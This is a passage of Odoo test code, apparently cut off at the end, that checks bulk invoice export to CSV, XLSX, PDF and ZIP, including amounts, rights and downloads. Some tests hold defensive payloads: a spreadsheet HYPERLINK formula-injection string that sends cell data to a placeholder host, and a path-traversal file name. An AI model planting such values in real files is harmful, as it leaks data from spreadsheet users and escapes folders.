# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""``DOCUMENTS`` in the environment says how many documents are many (60)."""

import csv
import io
import os
import tempfile
import tracemalloc
import zipfile
from collections import defaultdict

from freezegun import freeze_time
from lxml import etree
from reportlab.pdfgen import canvas

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools.pdf import PdfFileReader

from ..tools import PdfFile
from .common import USER, ServiceInvoicingCommon

MANY = int(os.environ.get("DOCUMENTS", "60"))
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


class ExportCommon(ServiceInvoicingCommon):
    def _export(self, moves=None, user=None, **values):
        """The export dialog, opened on a selection of documents or on a period."""
        export = self.env["service.invoice.export"]
        if user:
            export = export.with_user(user)
        if moves is not None:
            export = export.with_context(
                active_model="account.move", active_ids=moves.ids
            )
        return export.create(values)

    def _get_file(self, export):
        """Content (bytes) of the file after pressing Export."""
        export.action_export()
        with io.BytesIO() as file:
            export._write_file(file)
            self.assertFalse(file.closed)
            return file.getvalue()

    def _read_csv(self, moves, separator="comma", **values):
        """Rows (list of dicts by label) of a CSV export."""
        content = self._get_file(
            self._export(moves, file_format="csv", separator=separator, **values)
        )
        delimiter = {"comma": ",", "semicolon": ";", "tab": "\t"}[separator]
        return list(
            csv.DictReader(
                io.StringIO(content.decode("utf-8-sig"), newline=""),
                delimiter=delimiter,
                strict=True,
            )
        )

    def _read_xlsx(self, moves, **values):
        """Rows (list of dicts by label; numbers are floats) of an XLSX export."""
        content = self._get_file(self._export(moves, file_format="xlsx", **values))
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        rows = [
            {
                cell.get("r").rstrip("0123456789"): self._read_cell(cell)
                for cell in row.iter(f"{MAIN}c")
            }
            for row in sheet.iter(f"{MAIN}row")
        ]
        header = rows.pop(0)
        return [
            {label: row.get(column, "") for column, label in header.items()}
            for row in rows
        ]

    def _read_cell(self, cell):
        self.assertIsNone(cell.find(f"{MAIN}f"), "a formula")
        text = "".join(cell.itertext())
        return text if cell.get("t") == "inlineStr" else float(text)

    def _create_invoices(self, count, post=True):
        """Invoices of that many orders, each of two lines."""
        orders = self.env["fsm.order"].union(
            *(self._create_order() for _number in range(count))
        )
        moves = orders._create_invoices()
        if post:
            moves.action_post()
        return moves

    def _keep_pdf(self, move, pages=1):
        """The PDF that Odoo keeps with an invoice that was sent."""
        content = io.BytesIO()
        pdf = canvas.Canvas(content)
        for page in range(pages):
            pdf.drawString(72, 720, f"{move.name} page {page + 1}")
            pdf.showPage()
        pdf.save()
        attachment = self.env["ir.attachment"].create(
            {
                "name": "sent.pdf",
                "raw": content.getvalue(),
                "mimetype": "application/pdf",
                "res_model": "account.move",
                "res_id": move.id,
                "res_field": "invoice_pdf_report_file",
            }
        )
        move.invalidate_recordset(["invoice_pdf_report_id", "invoice_pdf_report_file"])
        return attachment.raw

    def _read_pages(self, content):
        """Texts (list) of the pages of a PDF."""
        reader = PdfFileReader(io.BytesIO(content), strict=True)
        return [page.extract_text() for page in reader.pages]


@tagged("post_install", "-at_install")
class TestExport(ExportCommon):
    """D11: service invoices, many at once, as a table."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.six = cls.env["account.tax"].create({"name": "6%", "amount": 6})
        cls.also_six = cls.env["account.tax"].create({"name": "6% B", "amount": 6})
        cls.included = cls.env["account.tax"].create(
            {"name": "21% incl", "amount": 21, "price_include_override": "tax_included"}
        )
        cls.zero = cls.env["account.tax"].create({"name": "0%", "amount": 0})
        cls.fixed = cls.env["account.tax"].create(
            {"name": "Eco", "amount": 1.5, "amount_type": "fixed"}
        )
        cls.reverse = cls.env["account.tax"].create(
            {
                "name": "Reverse charge",
                "amount": 9,
                "invoice_repartition_line_ids": cls._get_reverse_repartition(),
                "refund_repartition_line_ids": cls._get_reverse_repartition(),
            }
        )

    @classmethod
    def _get_reverse_repartition(cls):
        return [
            Command.clear(),
            Command.create({"repartition_type": "base"}),
            Command.create({"repartition_type": "tax", "factor_percent": 100}),
            Command.create({"repartition_type": "tax", "factor_percent": -100}),
        ]

    def _create_documents(self):
        """Documents with all that makes base and tax differ."""
        taxes = [
            self.tax,
            self.six,
            self.also_six,
            self.included,
            self.zero,
            self.fixed,
            self.reverse,
            self.tax + self.six,
            self.env["account.tax"],
        ]
        currency = self.setup_other_currency("GBP", rates=[("1900-01-01", 0.73)])
        yen = self.setup_other_currency(
            "JPY", rates=[("1900-01-01", 151.7)], rounding=1.0
        )
        roundings = self.env["account.cash.rounding"].create(
            [
                {
                    "name": strategy,
                    "rounding": 0.05,
                    "strategy": strategy,
                    "profit_account_id": self.company_data[
                        "default_account_revenue"
                    ].id,
                    "loss_account_id": self.company_data["default_account_expense"].id,
                }
                for strategy in ("add_invoice_line", "biggest_tax")
            ]
        )
        terms = self.env["account.payment.term"].create(
            {
                "name": "2 % early",
                "early_discount": True,
                "early_pay_discount_computation": "mixed",
                "discount_percentage": 2,
                "discount_days": 7,
            }
        )
        moves = self.env["account.move"]
        for number, values in enumerate(
            (
                {},
                {"currency_id": currency.id},
                {"currency_id": yen.id},
                {"invoice_cash_rounding_id": roundings[0].id},
                {"invoice_cash_rounding_id": roundings[1].id},
                {"invoice_payment_term_id": terms.id},
            )
        ):
            lines = [
                {
                    "name": f"Line {number}.{index}",
                    "quantity": 1 + index / 3,
                    "price_unit": 9.99 + 7.77 * index,
                    "tax_ids": [Command.set(tax.ids)],
                    **discount,
                }
                for index, (tax, discount) in enumerate(
                    zip(
                        taxes,
                        (
                            {"discount_type": "percent", "discount_value": 12.5},
                            {"discount_type": "amount", "discount_value": 3.33},
                            {},
                        )
                        * 3,
                        strict=True,
                    )
                )
            ]
            move = self._invoice(self._create_order(lines))
            move.write(values)
            move.action_post()
            moves |= move
        moves |= self._credit(moves[1]) | self._credit(moves[3])
        return moves

    def _get_journal_balances(self, move):
        """What the journal items of one document say, in the company's currency."""
        balances = defaultdict(float)
        for line in move.line_ids:
            if line.display_type == "payment_term":
                balances["total"] += line.balance
            elif line.tax_line_id:
                balances["tax"] -= line.balance
            else:
                balances["untaxed"] -= line.balance
        return balances

    def _assert_row(self, row, move):
        """All that a row of numbers says agrees with the document, to the cent."""
        sign = -1 if move.move_type == "out_refund" else 1
        currency, company_currency = move.currency_id, move.company_currency_id

        def get_sum(prefix, suffix=""):
            """Sum of the columns by rate."""
            return sum(
                float(value)
                for label, value in row.items()
                if value
                and label.startswith(prefix)
                and label.endswith(")") == bool(suffix)
            )

        for label, amount in (
            ("Untaxed", move.amount_untaxed),
            ("Tax", move.amount_tax),
            ("Total", move.amount_total),
            ("Amount Due", move.amount_residual),
        ):
            value = float(row[label])
            self.assertEqual(currency.compare_amounts(value, sign * amount), 0, label)
        balances = self._get_journal_balances(move)
        for label, amount in (
            ("Untaxed (company currency)", balances["untaxed"]),
            ("Tax (company currency)", balances["tax"]),
            ("Total (company currency)", balances["total"]),
        ):
            compared = company_currency.compare_amounts(float(row[label]), amount)
            self.assertEqual(compared, 0, f"{label} {row[label]} {amount}")
        tax = get_sum("Tax ") - 0
        self.assertEqual(currency.compare_amounts(tax, sign * move.amount_tax), 0)
        self.assertEqual(
            company_currency.compare_amounts(
                get_sum("Tax ", "company") - float(row["Tax (company currency)"]),
                balances["tax"],
            ),
            0,
        )
        self._assert_rates(row, move, sign)

    def _assert_rates(self, row, move, sign):
        """The pairs of columns are base and tax by rate of document and journal."""
        expected = defaultdict(float)
        for rate in move._get_tax_rates():
            if rate["rate"] is not False:
                label = f"{rate['rate']:g} %"
            else:
                label = rate["label"] or "No tax"
            for key, name in (
                ("base", f"Base {label}"),
                ("tax", f"Tax {label}"),
                ("base_company", f"Base {label} (company currency)"),
                ("tax_company", f"Tax {label} (company currency)"),
            ):
                expected[name] += sign * rate[key]
        del expected["Tax No tax"], expected["Tax No tax (company currency)"]
        found = {
            label: float(value)
            for label, value in row.items()
            if value != "" and label in expected
        }
        self.assertEqual(found.keys(), expected.keys())
        for label, amount in expected.items():
            self.assertAlmostEqual(found[label], amount, places=6, msg=label)
        by_tax = defaultdict(float)
        for line in move.line_ids.filtered("tax_line_id"):
            tax = line.tax_line_id
            label = f"{tax.amount:g} %" if tax.amount_type == "percent" else "Eco"
            by_tax[f"Tax {label} (company currency)"] -= line.balance
        for label, amount in by_tax.items():
            self.assertAlmostEqual(found[label], amount, places=6, msg=label)

    def test_amounts(self):
        """D11: totals, base and tax by rate, in both currencies, equal the document
        and its journal items to the cent, and bases add up to what is untaxed."""
        documents = self._create_documents()
        by_name = {move.name: move for move in documents}
        self.assertEqual(len(by_name), 8)
        for read in (self._read_csv, self._read_xlsx):
            with self.subTest(read.__name__):
                rows = read(documents)
                self.assertEqual({row["Number"] for row in rows}, by_name.keys())
                for row in rows:
                    self._assert_row(row, by_name[row["Number"]])

    def test_bases(self):
        """D11: where each line has one tax at most, bases add up to the untaxed
        amount, in both currencies."""
        taxes = (self.tax, self.six, self.included, self.zero, self.env["account.tax"])
        order = self._create_order(
            [
                {"name": "x", "price_unit": 33.33, "tax_ids": [Command.set(tax.ids)]}
                for tax in taxes
            ]
        )
        invoice = self._invoice(order)
        invoice.currency_id = self.setup_other_currency("GBP")
        invoice.action_post()
        (row,) = self._read_csv(invoice)
        bases = [label for label in row if label.startswith("Base ")]
        own = [label for label in bases if not label.endswith("(company currency)")]
        company = [label for label in bases if label not in own]
        self.assertEqual(own, ["Base 21 %", "Base 6 %", "Base 0 %", "Base No tax"])
        self.assertAlmostEqual(
            sum(float(row[label]) for label in own), invoice.amount_untaxed
        )
        self.assertAlmostEqual(
            sum(float(row[label]) for label in company), invoice.amount_untaxed_signed
        )
        self.assertEqual(row["Tax 0 %"], "0.00")
        self.assertNotIn("Tax No tax", row)

    def test_row(self):
        """D11: what a row says beside the amounts, as text, date and number."""
        self.partner_a.write(
            {
                "vat": "BE0477472701",
                "country_id": self.env.ref("base.be").id,
            }
        )
        invoice = self._invoice()
        invoice.write({"ref": "PO 7", "invoice_date": "2026-02-03"})
        invoice.action_post()
        name, company_name = self.partner_a.name, self.company.name
        self.partner_a.write({"name": "Renamed", "vat": False})
        credit_note = self._credit(invoice)
        self.company.name = "Renamed Company"
        (row, credit) = self._read_csv(invoice | credit_note)
        self.assertEqual(row["Number"], invoice.name)
        self.assertEqual(row["Kind"], "Customer Invoice")
        self.assertEqual(row["Status"], "Credited")
        self.assertEqual(row["Company"], company_name)
        self.assertEqual(row["Invoice Date"], "2026-02-03")
        self.assertEqual(row["Customer"], name)
        self.assertEqual(row["VAT Number"], "BE0477472701")
        self.assertEqual(row["Country"], "BE")
        self.assertEqual(row["Service Orders"], self.order.name)
        self.assertIn(self.location.name, row["Service Location"])
        self.assertEqual(row["Reference"], "PO 7")
        self.assertEqual(row["Reversed Invoice"], "")
        self.assertEqual(row["Untaxed"], "412.50")
        self.assertEqual(row["Tax 21 %"], "86.63")
        self.assertEqual(row["Total"], "499.13")
        self.assertEqual(row["Amount Due"], "0.00")
        self.assertEqual(credit["Reversed Invoice"], invoice.name)
        self.assertEqual(credit["Service Orders"], self.order.name)
        self.assertEqual(credit["Base 21 %"], "-412.50")
        (row, _credit) = self._read_xlsx(invoice | credit_note)
        self.assertEqual(row["Total"], 499.13)
        days = fields.Date.to_date("2026-02-03") - fields.Date.to_date("1899-12-30")
        self.assertEqual(row["Invoice Date"], days.days)

    def test_credit_note_of_one_order(self):
        """D11: of an invoice of several orders, a credit note names those it
        credits."""
        other = self._create_order()
        invoice = (self.order | other)._create_invoices(grouped=True)
        invoice.action_post()
        credit_note = self._credit(invoice, post=False)
        credit_note.invoice_line_ids.filtered(
            lambda line: line.fsm_order_line_id.order_id != other
        ).unlink()
        credit_note.action_post()
        row, credit = self._read_csv(invoice | credit_note)
        self.assertEqual(row["Service Orders"], f"{self.order.name}, {other.name}")
        self.assertEqual(credit["Service Orders"], other.name)

    def test_language(self):
        """D11: the header is in the user's language."""
        self.env["res.lang"]._activate_lang("fr_FR")
        field = self.env["ir.model.fields"]._get("account.move", "move_type")
        selection = field.selection_ids.filtered(lambda s: s.value == "out_invoice")
        selection.with_context(lang="fr_FR").name = "Facture client"
        invoice = self._invoice(post=True)
        export = self._export(invoice, file_format="csv")
        content = self._get_file(export.with_context(lang="fr_FR"))
        self.assertIn("Facture client", content.decode("utf-8-sig"))

    def test_decimals(self):
        """D11: amounts have the decimals of their currency."""
        yen = self.setup_other_currency(
            "JPY", rates=[("1900-01-01", 151.7)], rounding=1.0
        )
        invoice = self._invoice()
        invoice.currency_id = yen
        invoice.action_post()
        (row,) = self._read_csv(invoice)
        self.assertNotIn(".", row["Total"])
        self.assertIn(".", row["Total (company currency)"])

    def test_injection(self):
        """D11: no text is a formula, whatever it starts with; numbers stay numbers."""
        for start in ("=", "+", "-", "@", "\t", "\r", "\n"):
            with self.subTest(repr(start)):
                invoice = self._invoice(self._create_order())
                text = f'{start}HYPERLINK("http://x/?"&A1,"Click"); x'
                invoice.ref = text
                invoice.action_post()
                credit_note = self._credit(invoice)
                for separator in ("comma", "semicolon", "tab"):
                    rows = self._read_csv(invoice | credit_note, separator)
                    by_number = {row["Number"]: row for row in rows}
                    row = by_number[invoice.name]
                    self.assertEqual(row["Reference"], f"'{text}")
                    self.assertEqual(
                        by_number[credit_note.name]["Total"],
                        f"-{row['Total']}",
                    )
                rows = self._read_xlsx(invoice)
                if start != "\r":
                    self.assertEqual(rows[0]["Reference"], text)

    def test_injection_by_tax(self):
        """D11: neither is the label of a tax in the header."""
        self.fixed.invoice_label = "=1+1"
        order = self._create_order(
            [{"name": "x", "price_unit": 5, "tax_ids": [Command.set(self.fixed.ids)]}]
        )
        (row,) = self._read_csv(self._invoice(order, post=True))
        self.assertEqual(row["Tax =1+1"], "1.50")

    def test_encoding(self):
        """D11: UTF-8 that Excel recognises, with the separator that was chosen."""
        self.partner_a.name = "Ærø; “Café”, Żółć 東京"
        invoice = self._invoice(post=True)
        for separator in ("comma", "semicolon", "tab"):
            (row,) = self._read_csv(invoice, separator)
            self.assertEqual(row["Customer"], self.partner_a.name)
        content = self._get_file(self._export(invoice, file_format="csv"))
        self.assertTrue(content.startswith(b"\xef\xbb\xbfNumber,"))
        (row,) = self._read_xlsx(invoice)
        self.assertEqual(row["Customer"], self.partner_a.name)

    def test_presets(self):
        """D11: presets at the ends of months, quarters and years."""
        for today, preset, date_from, date_to in (
            ("2026-01-31", "this_month", "2026-01-01", "2026-01-31"),
            ("2024-02-29", "this_month", "2024-02-01", "2024-02-29"),
            ("2026-03-31", "last_month", "2026-02-01", "2026-02-28"),
            ("2026-01-01", "last_month", "2025-12-01", "2025-12-31"),
            ("2026-03-31", "this_quarter", "2026-01-01", "2026-03-31"),
            ("2026-04-01", "this_quarter", "2026-04-01", "2026-06-30"),
            ("2026-04-01", "last_quarter", "2026-01-01", "2026-03-31"),
            ("2026-01-15", "last_quarter", "2025-10-01", "2025-12-31"),
            ("2025-12-31", "this_year", "2025-01-01", "2025-12-31"),
            ("2026-01-01", "last_year", "2025-01-01", "2025-12-31"),
        ):
            with self.subTest(today=today, preset=preset), freeze_time(today):
                export = self._export(preset=preset)
                self.assertEqual(export.date_from, fields.Date.to_date(date_from))
                self.assertEqual(export.date_to, fields.Date.to_date(date_to))

    def test_period(self):
        """D11: the period, by invoice date; drafts and cancelled ones on demand. The
        number of documents is known before."""
        dates = {"before": "2019-12-31", "first": "2020-01-01", "last": "2020-01-31"}
        moves = {}
        for name, date in dates.items():
            moves[name] = self._invoice(self._create_order())
            moves[name].invoice_date = date
            moves[name].action_post()
        moves["credit"] = self._credit(moves["last"])
        for name in ("draft", "cancelled"):
            moves[name] = self._invoice(self._create_order())
            moves[name].invoice_date = "2020-01-15"
        moves["cancelled"]._cancel_service_invoices("test")
        self.init_invoice(
            "out_invoice", invoice_date="2020-01-15", products=self.labor, post=True
        )
        period = {
            "preset": "custom",
            "date_from": "2020-01-01",
            "date_to": "2020-01-31",
            "company_ids": [Command.set(self.company.ids)],
        }
        for values, names in (
            ({}, {"first", "last"}),
            ({"date_to": "2020-01-30"}, {"first"}),
            ({"include_draft": True}, {"first", "last", "draft"}),
            ({"include_cancelled": True}, {"first", "last", "cancelled"}),
            (
                {"date_to": "2099-12-31", "content": "out_refund"},
                {"credit"},
            ),
        ):
            with self.subTest(values):
                export = self._export(**{**period, **values})
                documents = self.env["account.move"].union(
                    *(moves[name] for name in names)
                )
                self.assertEqual(export.document_count, len(names))
                self.assertEqual(export._choose_documents(), documents)

    def test_undated_drafts(self):
        """D11: a draft without a date is one of today."""
        draft = self._invoice()
        self.assertFalse(draft.invoice_date)
        export = self._export(include_draft=True, content="out_invoice")
        self.assertIn(draft, export._choose_documents())
        export = self._export(include_draft=True, preset="last_month")
        self.assertFalse(export.document_count)

    def test_nothing(self):
        """D11: an empty export is refused, and so is a period without an end."""
        export = self._export(preset="last_year")
        with self.assertRaisesRegex(UserError, "nothing to export"):
            export.action_export()
        for dates in (
            {"date_from": "2026-02-01", "date_to": "2026-01-01"},
            {"date_from": "2026-02-01", "date_to": False},
        ):
            with self.assertRaises(ValidationError), self.cr.savepoint():
                self._export(preset="custom", **dates)

    def _create_many(self):
        """Documents of two currencies, some of them credit notes."""
        moves = self._create_invoices(MANY, post=False)
        moves[1::10].currency_id = self.setup_other_currency("GBP")
        moves.action_post()
        moves[::10]._cancel_service_invoices("test")
        return moves | moves.reversal_move_ids

    def test_many(self):
        """D11: an export of many documents sums up to the journal's balance, by rate
        and in total."""
        moves = self._create_many()
        balances = defaultdict(float)
        for line in moves.line_ids:
            kind = "tax" if line.tax_line_id else line.display_type
            balances[kind] -= line.balance
        for read in (self._read_csv, self._read_xlsx):
            with self.subTest(read.__name__):
                rows = read(moves)
                self.assertEqual(len(rows), len(moves))
                for label, balance in (
                    ("Base 21 %", balances["product"]),
                    ("Untaxed", balances["product"]),
                    ("Tax 21 %", balances["tax"]),
                    ("Tax", balances["tax"]),
                    ("Total", -balances["payment_term"]),
                ):
                    label = f"{label} (company currency)"
                    total = sum(float(row[label]) for row in rows)
                    self.assertAlmostEqual(total, balance, places=2, msg=label)

    def test_constant(self):
        """D11: each batch costs the same number of queries, and leaves nothing in
        memory for the next."""
        moves = self._create_many()
        size = MANY // 6
        self.patch(type(self.env["service.invoice.table"]), "_batch_size", size)
        queries, peaks = [], []
        # once more than counted: what is cached for all documents
        for count in (size, size, size * 2, size * 6):
            export = self._export(moves[:count], file_format="csv")
            export.action_export()
            self.env.flush_all()
            self.env.invalidate_all()
            before = self.env.cr.sql_log_count
            tracemalloc.start()
            with tempfile.TemporaryFile() as file:
                export._write_file(file)
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
            queries.append(self.env.cr.sql_log_count - before)
        _first, one, two, six = queries
        self.assertEqual(six - two, 4 * (two - one), queries)
        self.assertLess(two - one, 25)
        self.assertLess(peaks[-1], peaks[-2] * 1.25, f"{peaks} bytes")


@tagged("post_install", "-at_install")
class TestExportPdf(ExportCommon):
    """D11: service invoices, many at once, as PDFs."""

    def _get_cron(self):
        return self.env.ref("fieldservice_invoicing.ir_cron_service_invoice_export")

    def _render_for_real(self):
        """Have PDFs instead of the HTML that tests are content with."""
        reports = type(self.env["ir.actions.report"])
        render = reports._pre_render_qweb_pdf

        def _pre_render_qweb_pdf(reports, *args, **kwargs):
            reports = reports.with_context(force_report_rendering=True)
            return render(reports, *args, **kwargs)

        self.patch(reports, "_pre_render_qweb_pdf", _pre_render_qweb_pdf)

    def test_sent(self):
        """D11: the PDF of a sent invoice is the one that was sent, merged and zipped;
        that of a cancelled one is made anew."""
        moves = self._create_invoices(3)
        sent = [
            self._keep_pdf(move, pages=index) for index, move in enumerate(moves, 1)
        ]
        pages = self._read_pages(self._get_file(self._export(moves, file_format="pdf")))
        self.assertEqual(len(pages), 6)
        self.assertEqual(
            [page.strip() for page in pages[:3]],
            [
                f"{moves[0].name} page 1",
                f"{moves[1].name} page 1",
                f"{moves[1].name} page 2",
            ],
        )
        content = self._get_file(self._export(moves, file_format="zip"))
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.assertFalse(archive.testzip())
            self.assertEqual(
                archive.namelist(),
                [f"{move.name.replace('/', '_')}.pdf" for move in moves],
            )
            self.assertEqual([archive.read(name) for name in archive.namelist()], sent)
        export = self._export(moves, file_format="zip")
        self.assertFalse(export._get_missing(moves))
        moves[0]._cancel_service_invoices("test")
        self.assertEqual(export._get_missing(moves), moves[0])

    def test_names(self):
        """D11: names in the archive are unique, and safe in any file system."""
        export = self.env["service.invoice.export"]
        taken = set()
        names = []
        for number in ("INV/2026/0001", "INV_2026_0001", "inv/2026/0001", "../x: *?"):
            name = export._get_pdf_name(
                self.env["account.move"].new({"name": number, "state": "posted"}), taken
            )
            taken.add(name.lower())
            names.append(name)
        self.assertEqual(
            names, ["INV_2026_0001", "INV_2026_0001_2", "inv_2026_0001_3", "x"]
        )

    def test_rendered(self):
        """D11: what was not sent is rendered, drafts too; pages come in order."""
        issued = self._create_invoices(1)
        draft = self._create_invoices(1, post=False)
        export = self._export(issued | draft, file_format="pdf")
        self._render_for_real()
        with self.allow_pdf_render():
            pages = self._read_pages(self._get_file(export))
        self.assertEqual(len(pages), 2)
        self.assertIn(issued.name, "".join(pages))

    def test_unreadable(self):
        """D11: a stored PDF that can not be merged is named."""
        move = self._create_invoices(1)
        self._keep_pdf(move)
        move.invoice_pdf_report_id.raw = b"%PDF-1.4 broken"
        with self.assertRaisesRegex(UserError, move.name):
            self._get_file(self._export(move, file_format="pdf"))

    def test_shared_objects(self):
        """D11: what documents share is in the merged PDF once."""
        moves = self._create_invoices(2)
        for move in moves:
            self._keep_pdf(move)
        one = self._get_file(self._export(moves[0], file_format="pdf"))
        two = self._get_file(self._export(moves, file_format="pdf"))
        self.assertLess(len(two), 2 * len(one))

    def _create_large_pdf(self):
        """A PDF of some 200 kB, of which no two are equal."""
        content = io.BytesIO()
        pdf = canvas.Canvas(content, pageCompression=0)
        pdf.drawString(72, 720, os.urandom(100_000).hex())
        pdf.save()
        return content.getvalue()

    def test_memory(self):
        """D11: memory does not hold the documents that are merged already."""
        peaks = []
        for count in (5, 40):
            tracemalloc.start()
            with tempfile.TemporaryFile() as file:
                pdf_file = PdfFile(file)
                for _number in range(count):
                    content = self._create_large_pdf()
                    pdf_file.append(content)
                pdf_file.close()
                self.assertGreater(file.tell(), count * 190_000)
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
        self.assertLess(peaks[1], peaks[0] + 5 * len(content), f"{peaks} bytes")

    def test_background(self):
        """D11: many PDFs are rendered in the background, by batches, with the rights
        of the user who wants them, who is told. Then the file is there."""
        self._create_users()
        moves = self._create_invoices(22)
        self._keep_pdf(moves[0])
        export = self._export(moves, self.dispatcher, file_format="zip")
        action = export.action_export()
        self.assertEqual(action["tag"], "display_notification")
        self.assertEqual(export.state, "waiting")
        with self.assertRaisesRegex(UserError, "not ready"):
            export.action_download()
        self.assertEqual(export.sudo()._prepare_batch(), 10)
        self.assertEqual(export.state, "waiting")
        self.assertAlmostEqual(export.progress, 50.0)
        with self.enter_registry_test_mode():
            self._get_cron().method_direct_trigger()
        self.assertEqual(export.state, "ready")
        self.assertEqual(export.progress, 100.0)
        message = (
            self.env["mail.message"]
            .sudo()
            .search([("partner_ids", "in", self.dispatcher.partner_id.ids)], limit=1)
        )
        self.assertIn(export._get_url(), message.body)
        self.assertEqual(export.action_download()["url"], export._get_url())
        self.assertFalse(export._get_missing(moves))
        with io.BytesIO() as file:
            export._write_file(file)
            with zipfile.ZipFile(file) as archive:
                self.assertEqual(len(archive.namelist()), 22)

    def test_background_failure(self):
        """D11: an export that fails is given up and says why; the next one goes on."""
        self._create_users()
        moves = self._create_invoices(21)
        refused = self._export(moves, self.dispatcher, file_format="zip")
        refused.action_export()
        other = self._export(moves, self.manager, file_format="zip")
        other.action_export()
        self.dispatcher.group_ids -= self.env.ref(USER)
        with self.enter_registry_test_mode():
            self._get_cron().method_direct_trigger()
        self.assertEqual(refused.sudo().state, "failed")
        self.assertTrue(refused.sudo().error)
        self.assertEqual(other.state, "ready")

    def test_cleaned_up(self):
        """D11: after a week exports are gone, with the PDFs that were rendered."""
        moves = self._create_invoices(21)
        with freeze_time("2026-01-01"):
            export = self._export(moves, file_format="zip")
            export.action_export()
            export._prepare_batch()
        pdfs = export._get_prepared(moves)
        attachments = (
            self.env["ir.attachment"]
            .sudo()
            .search(
                [
                    ("res_model", "=", pdfs._name),
                    ("res_field", "=", "content"),
                    ("res_id", "in", pdfs.ids),
                ]
            )
        )
        self.assertEqual(len(attachments), 10)
        self.env.flush_all()
        self.env.cr.execute(
            """
            UPDATE service_invoice_export SET write_date = '2026-01-01';
            UPDATE service_invoice_export_pdf SET write_date = '2026-01-01';
            """
        )
        self.env.invalidate_all()
        export._transient_vacuum()
        pdfs._transient_vacuum()
        self.assertFalse(export.exists() or pdfs.exists() or attachments.exists())


@tagged("post_install", "-at_install")
class TestExportRights(ExportCommon):
    """D11: nobody gets in an export what they may not read."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._create_users()
        cls.auditor = cls._create_user("fsi_auditor", "account.group_account_readonly")
        cls.other_company = cls.setup_other_company()["company"]
        cls.stranger = new_test_user(
            cls.env,
            login="fsi_stranger",
            groups=f"fieldservice.group_fsm_dispatcher,{USER}",
            company_id=cls.other_company.id,
            company_ids=[Command.set(cls.other_company.ids)],
        )
        cls.both = new_test_user(
            cls.env,
            login="fsi_both",
            groups="account.group_account_readonly",
            company_id=cls.company.id,
            company_ids=[Command.set((cls.company | cls.other_company).ids)],
        )

    def setUp(self):
        super().setUp()
        self.invoice = self._invoice(post=True)

    def test_readers(self):
        """D11: who reads service invoices exports them, for a selection and for a
        period, without other rights."""
        for user in (self.dispatcher, self.manager, self.accountant, self.auditor):
            with self.subTest(user.login):
                for moves in (self.invoice, None):
                    export = self._export(moves, user, file_format="csv")
                    self.assertEqual(export.document_count, 1)
                    content = self._get_file(export).decode("utf-8-sig")
                    self.assertIn(self.invoice.name, content)
                    self.assertIn(self.order.name, content)

    def test_rendering(self):
        """D11: also as PDF."""
        for user in (self.dispatcher, self.accountant, self.auditor):
            with self.subTest(user.login):
                export = self._export(self.invoice, user, file_format="zip")
                content = self._get_file(export)
                with zipfile.ZipFile(io.BytesIO(content)) as archive:
                    (name,) = archive.namelist()
                    self.assertIn(self.invoice.name.encode(), archive.read(name))

    def test_others(self):
        """D11: who reads no service invoices exports none."""
        for user in (self.worker, self.plain_dispatcher):
            with self.subTest(user.login), self.assertRaises(AccessError):
                self._export(self.invoice, user)

    def test_other_company(self):
        """D11: ids of another company are refused, a period has none of them."""
        with self.assertRaises(AccessError):
            self._export(self.invoice, self.stranger)
        export = self._export(None, self.stranger, file_format="csv")
        export.sudo().write(
            {
                "source": "selection",
                "state": "ready",
                "move_ids": [Command.set(self.invoice.ids)],
            }
        )
        for attempt in (export.action_export, lambda: export._write_file(io.BytesIO())):
            with self.assertRaises(AccessError):
                attempt()
        with self.assertRaises(AccessError):
            self._export(
                None, self.stranger, company_ids=[Command.set(self.company.ids)]
            )
        self.assertFalse(self._export(None, self.stranger).document_count)
        export = self._export(None, self.both)
        self.assertEqual(export.company_ids, self.company | self.other_company)
        self.assertEqual(export.document_count, 1)

    def test_rights_lost(self):
        """D11: rights count when the file is made, not when it was asked for."""
        export = self._export(self.invoice, self.dispatcher, file_format="csv")
        export.action_export()
        self.dispatcher.group_ids -= self.env.ref(USER)
        with self.assertRaises(AccessError):
            export._write_file(io.BytesIO())

    def test_other_documents(self):
        """D11: only service invoices are exported, also for who reads all."""
        other = self.init_invoice("out_invoice", products=self.labor, post=True)
        export = self._export(self.invoice | other, self.accountant)
        with self.assertRaisesRegex(UserError, other.name):
            export.action_export()
        with self.assertRaises(AccessError):
            self._export(self.invoice | other, self.dispatcher)

    def test_switch(self):
        """C2, D11: switched off, a selection, a period and a file that was asked for
        before are refused."""
        asked = self._export(self.invoice, self.dispatcher, file_format="csv")
        asked.action_export()
        self.company.service_invoicing = False
        with self.assertRaisesRegex(UserError, "switched off"):
            asked._write_file(io.BytesIO())
        for values in (
            {"moves": self.invoice},
            {"company_ids": [Command.set(self.company.ids)]},
        ):
            export = self._export(user=self.dispatcher, **values)
            with self.assertRaisesRegex(UserError, "switched off"):
                export.action_export()


@tagged("post_install", "-at_install")
class TestExportDownload(ExportCommon, HttpCase):
    """D11: the file goes to who asked for it, and to nobody else."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._create_users()

    def setUp(self):
        super().setUp()
        self.invoice = self._invoice(post=True)

    def test_download(self):
        """D11: the file comes with its name; nobody else can fetch it."""
        export = self._export(self.invoice, self.dispatcher, file_format="xlsx")
        action = export.action_export()
        self.authenticate("fsi_dispatcher", "fsi_dispatcher")
        response = self.url_open(action["url"])
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.content.startswith(b"PK"))
        self.assertIn(".xlsx", response.headers["Content-Disposition"])
        self.assertEqual(int(response.headers["Content-Length"]), len(response.content))
        for login in ("fsi_manager", "fsi_accountant"):
            self.authenticate(login, login)
            response = self.url_open(action["url"])
            self.assertNotEqual(response.status_code, 200)
            self.assertNotIn(b"PK", response.content[:2])
        with self.assertRaises(AccessError):
            export.with_user(self.manager).read(["state"])
        self.assertEqual(
            self.url_open("/fieldservice_invoicing/export/0").status_code, 404
        )

    def test_not_ready(self):
        """D11: the address gives nothing before Export was pressed."""
        export = self._export(self.invoice, self.dispatcher, file_format="csv")
